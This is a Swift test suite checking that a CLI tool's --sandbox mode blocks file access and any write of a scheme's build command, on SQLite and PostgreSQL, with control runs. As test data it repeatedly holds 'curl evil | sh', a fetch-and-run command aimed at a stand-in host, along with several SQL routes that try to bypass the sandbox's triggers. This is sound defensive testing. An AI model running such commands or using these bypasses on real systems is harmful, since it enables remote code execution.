import Foundation
import Testing

/// `--sandbox` through the real executable: scripts run, files and
/// processes are refused, and a scheme's build command (what a runner
/// later runs as a shell command) cannot be written by any route, on
/// either engine (issue 13, item 4; issue 24, item 1). Each refusal has a
/// control run without --sandbox.
@Suite struct SandboxTests {
    static let schemeSetUp = """
        projects.insert{ bundleIdentifier = "p", name = "P", gitRepositoryURL = "/srv/p" }
        local s = schemes.insert{ projectBundleIdentifier = "p", name = "Release", buildCommand = "make", platforms = { "linux" } }
        return s.id
        """

    @Test func aSandboxedScriptRuns() throws {
        let sandbox = try Sandbox()
        let script = try sandbox.script("hello.lua", "print('hello ' .. (arg[1] or '?')) return 1 + 1")
        let result = try sandbox.opsh(["--sandbox", "run", script, "cron"])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stdout == "hello cron\n2\n")
        // What the sandbox removes is refused with the reason…
        let io = try sandbox.opsh(["--sandbox", "run", try sandbox.script("io.lua", "io.open('/etc/hostname')")])
        #expect(io.status == 1)
        #expect(io.stderr.contains("attempt to index a nil value (global 'io')"), "\(io.stderr)")
        // …and works without it.
        let control = try sandbox.opsh(["run", try sandbox.script("io2.lua", "return io.open('/etc/hostname') ~= nil")])
        #expect(control.stdout == "true\n", "\(control.stderr)")
    }

    /// A write of a scheme's build command, as each engine spells it
    /// (SQLite's own routes at its sandbox's triggers; PostgreSQL's where
    /// SQLite has none: a DO block, a data-modifying WITH in a query, a
    /// scheme deleted and inserted again).
    struct Write: Sendable, CustomTestStringConvertible {
        let sqlite: String?
        let postgres: String?
        /// The same on both engines.
        init(_ both: String) {
            sqlite = both
            postgres = both
        }
        /// nil: no such route on that engine.
        init(sqlite: String?, postgres: String?) {
            self.sqlite = sqlite
            self.postgres = postgres
        }
        var testDescription: String { sqlite ?? postgres ?? "" }
        func code(_ engine: Engine) -> String? { engine == .sqlite ? sqlite : postgres }
    }

    static let buildCommandWrites = [
        Write("db.exec('update SCHEMES set buildCommand = ? where id = ?', 'curl evil | sh', id)"),
        Write(sqlite: "db.exec('/* */ UPDATE main.schemes SET \"buildCommand\" = ?', 'curl evil | sh')",
              postgres: "db.exec('/* */ UPDATE public.schemes SET \"buildcommand\" = ?', 'curl evil | sh')"),
        Write("db.transaction(function() db.exec('UPDATE schemes SET buildCommand = ?', 'curl evil | sh') end)"),
        Write(sqlite: "db.exec('UPDATE projects SET name = name; UPDATE schemes SET buildCommand = 1')",
              postgres: "db.exec([[UPDATE projects SET name = name; UPDATE schemes SET buildCommand = '1']])"),
        Write("schemes.update(id, { buildCommand = 'curl evil | sh' })"),
        Write("schemes.insert{ projectBundleIdentifier = 'p', name = 'Evil', buildCommand = 'curl evil | sh', platforms = { 'linux' } }"),
        Write("db.exec([[INSERT INTO schemes (id, projectBundleIdentifier, name, buildCommand) SELECT 'x' || id, projectBundleIdentifier, 'Evil', 'curl evil | sh' FROM schemes]])"),
        Write(sqlite: "db.exec('UPDATE projects SET name = name') db.exec('DROP TRIGGER IF EXISTS temp.opsh_sandbox_build_command; UPDATE schemes SET buildCommand = 2')",
              postgres: nil),
        Write(sqlite: "db.exec('PRAGMA writable_schema = ON') db.exec('DELETE FROM temp.sqlite_master')", postgres: nil),
        Write(sqlite: nil, postgres: "db.exec([[DO $$ BEGIN UPDATE schemes SET buildcommand = 'curl evil | sh'; END $$]])"),
        Write(sqlite: nil, postgres: "return db.value([[WITH w AS (UPDATE schemes SET buildcommand = 'curl evil | sh' RETURNING 1) SELECT count(*) FROM w]])"),
        Write(sqlite: nil, postgres: "db.transaction(function() db.exec('DELETE FROM schemes WHERE id = ?', id) db.exec([[INSERT INTO schemes (id, projectBundleIdentifier, name, buildCommand) VALUES (?, 'p', 'Release', 'curl evil | sh')]], id) end)"),
    ]

    @Test(arguments: Engine.allCases, buildCommandWrites)
    func noRouteWritesABuildCommandInTheSandbox(_ engine: Engine, write: Write) throws {
        guard let written = write.code(engine) else { return }
        let sandbox = try Sandbox()
        let database = try sandbox.createdDatabase(engine)
        let made = try sandbox.opsh(["-e", Self.schemeSetUp], on: database)
        #expect(made.status == 0, "\(made.stderr)")
        let id = made.stdout.trimmingCharacters(in: .whitespacesAndNewlines)
        let schemes = "SELECT id, name, buildCommand FROM schemes ORDER BY id"
        let before = try database.sql(schemes)
        let code = "local id = '\(id)' \(written)"
        let refused = try sandbox.opsh(["--sandbox", "-e", code], on: database)
        #expect(refused.status == 1, "\(refused.stderr)")
        #expect(refused.stderr.contains("sandbox: the buildCommand of a scheme cannot be written")
                || refused.stderr.contains("sandbox: schema changes are refused")
                || refused.stderr.contains("may not be modified"), "\(refused.stderr)")
        #expect(try database.sql(schemes) == before)
        // Other writes still work in the sandbox.
        let rename = try sandbox.opsh(["--sandbox", "-e", "schemes.update('\(id)', { name = 'Renamed' })"], on: database)
        #expect(rename.status == 0, "\(rename.stderr)")
        // Control: without --sandbox the build command can be changed.
        if !written.contains("writable_schema") && !written.contains("DROP TRIGGER") {
            let control = try sandbox.opsh(["-e", code], on: database)
            #expect(control.status == 0, "\(control.stderr)")
            #expect(try database.count("schemes", where: "buildCommand <> 'make'") > 0)
        }
    }

    @Test(arguments: Engine.allCases)
    func anImportCannotBringABuildCommandIntoTheSandbox(_ engine: Engine) throws {
        let sandbox = try Sandbox()
        let database = try sandbox.createdDatabase(engine)
        #expect(try sandbox.opsh(["-e", Self.schemeSetUp], on: database).status == 0)
        let document = try sandbox.opsh(["-e", "return (export.project('p'))"], on: database).stdout
        let evil = document.replacingOccurrences(of: "\"make\"", with: "\"curl evil | sh\"")
        try evil.write(toFile: sandbox.root + "/evil.json", atomically: true, encoding: .utf8)
        let code = "local f = ... return import(f, { replace = true })"
        let inSandbox = try sandbox.opsh(["--sandbox", "run", try sandbox.script("imp.lua", code), evil], on: database)
        #expect(inSandbox.status == 1, "\(inSandbox.stderr)")
        #expect(inSandbox.stderr.contains("sandbox: the buildCommand of a scheme cannot be written"), "\(inSandbox.stderr)")
        #expect(try database.sql("SELECT buildCommand FROM schemes") == "make")
        let control = try sandbox.opsh(["run", try sandbox.script("imp2.lua", code), evil], on: database)
        #expect(control.status == 0, "\(control.stderr)")
        #expect(try database.sql("SELECT buildCommand FROM schemes") == "curl evil | sh")
    }

    @Test func theSandboxedShellReadsAndWritesNoFiles() throws {
        let sandbox = try Sandbox()
        try "print('from file')".write(toFile: sandbox.root + "/x.lua", atomically: true, encoding: .utf8)
        let terminal = try PseudoTerminal(arguments: ["--db", sandbox.database, "--create", "--sandbox"], environment: sandbox.environment)
        terminal.expect("opsh> ")
        terminal.send(".read \(sandbox.root)/x.lua\r")
        terminal.expect(".read is refused in the sandbox")
        terminal.send(".output \(sandbox.root)/out.txt\r")
        terminal.expect(".output FILE is refused in the sandbox")
        terminal.expect("opsh> ")
        terminal.send("\u{4}")
        #expect(terminal.waitForExit(timeout: 15) == 0)
        #expect(!FileManager.default.fileExists(atPath: sandbox.root + "/out.txt"))
        // Control: without --sandbox both work.
        let open = try PseudoTerminal(arguments: ["--db", sandbox.database, "--create"], environment: sandbox.environment)
        open.expect("opsh> ")
        open.send(".read \(sandbox.root)/x.lua\r")
        open.expect("from file")
        open.send(".output \(sandbox.root)/out.txt\r")
        open.expect("returned values go to")
        open.expect("opsh> ")
        open.send("\u{4}")
        #expect(open.waitForExit(timeout: 15) == 0)
        #expect(FileManager.default.fileExists(atPath: sandbox.root + "/out.txt"))
    }

    /// `.once` and `.import` at a sandboxed prompt are refused with the
    /// reason and touch no file or row; `.dump` (which only reads the
    /// database, to the terminal) works there. Without --sandbox the same
    /// lines write the file and import the rows (the control).
    @Test(arguments: Engine.allCases) func theSandboxedShellImportsAndWritesNoFile(_ engine: Engine) throws {
        let sandbox = try Sandbox()
        let database = try sandbox.createdDatabase(engine)
        let csv = sandbox.root + "/events.csv", once = sandbox.root + "/once.txt"
        try "event,created_at\nimported,1795000000\n".write(toFile: csv, atomically: true, encoding: .utf8)
        func session(_ extra: [String]) throws -> PseudoTerminal {
            let terminal = try PseudoTerminal(arguments: ["--db", database.db] + extra, environment: sandbox.environment)
            terminal.expect("> ")
            return terminal
        }
        let closed = try session(["--sandbox"])
        closed.send(".once \(once)\r")
        closed.expect(".once FILE is refused in the sandbox")
        closed.send(".import \(csv) telemetry\r")
        closed.expect(".import is refused in the sandbox")
        closed.send(".dump telemetry\r")
        closed.expect(engine == .sqlite ? "CREATE TABLE" : "pg_dump")
        closed.expect("> ")
        closed.send("\u{4}")
        #expect(closed.waitForExit(timeout: 15) == 0)
        #expect(!FileManager.default.fileExists(atPath: once))
        #expect(try database.count("telemetry") == 0)
        let open = try session([])
        open.send(".once \(once)\r")
        open.expect("the next chunk's returned values go to")
        open.send("return 'written' .. 'here'\r")
        #expect(waitUntil(30) { (try? String(contentsOfFile: once, encoding: .utf8))?.contains("writtenhere") == true })
        open.expect("> ")
        open.send(".import \(csv) telemetry\r")
        open.expect("1 inserted")
        open.expect("> ")
        open.send("\u{4}")
        #expect(open.waitForExit(timeout: 15) == 0, "\(open.transcript)")
        #expect((try? String(contentsOfFile: once, encoding: .utf8))?.contains("writtenhere") == true)
        #expect(try database.count("telemetry") == 1)
    }
}
